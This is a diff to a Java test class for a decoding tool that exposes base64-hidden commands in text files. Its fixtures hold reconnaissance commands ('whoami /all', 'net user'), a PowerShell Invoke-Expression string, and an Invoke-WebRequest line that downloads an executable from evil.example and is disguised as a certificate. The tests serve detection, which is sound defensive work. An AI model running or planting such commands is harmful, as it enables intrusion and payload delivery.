@@ -47,7 +47,8 @@ class DecodeCellsTest {
         StringBuilder text = new StringBuilder();
         for (int i = 1; i <= 100_000; i++) {
             text.append("job ").append(i).append(" of the nightly run of all jobs there are: ");
-            text.append(i % 50 == 0 ? base64("whoami /all & net user number " + i) : "done").append('\n');
+            text.append(i % 50 == 0 ? base64("whoami /all & net user number " + i) : "done")
+                    .append('\n');
         }
         Files.writeString(home.resolve("jobs.txt"), text);
         String[] found = decode("jobs.txt", "--column", "text", "-o", "ndjson").split("\n");
@@ -69,6 +70,21 @@ class DecodeCellsTest {
         assertEquals(
                 "line,text\n1,first\n2,run <<powershell -c Invoke-Expression 'whoami'>> now <who>\n3,last\n",
                 decode("n.txt", "--column", "text", "--in-place", "--marks", "<,>", "-o", "csv"));
+    }
+
+    @Test
+    void wholeFilesWhereLinesAreNotEnough() throws Exception {
+        String script = "Invoke-WebRequest http://evil.example/a -OutFile b.exe\n".repeat(4);
+        String wrapped = Base64.getMimeEncoder(64, new byte[] {'\r', '\n'})
+                .encodeToString(script.getBytes(StandardCharsets.UTF_8));
+        Files.writeString(
+                home.resolve("c.txt"),
+                "-----BEGIN CERTIFICATE-----\r\n" + wrapped + "\r\n-----END CERTIFICATE-----\r\n");
+        String found = decode("--whole", "c.txt", "-o", "ndjson");
+        assertTrue(found.startsWith("{\"file\":\"c.txt\",\"SourceColumn\":\"text\",\"Chain\":\"base64\","), found);
+        assertTrue(found.endsWith("\"Decoded\":\"" + script.replace("\n", "\\n") + "\"}\n"), found);
+        Ran folder = Command.spoor(home, "decode", "--whole", ".").run().exits(2);
+        assertTrue(folder.err().contains("is no file"), folder::toString);
     }
 
     @Test
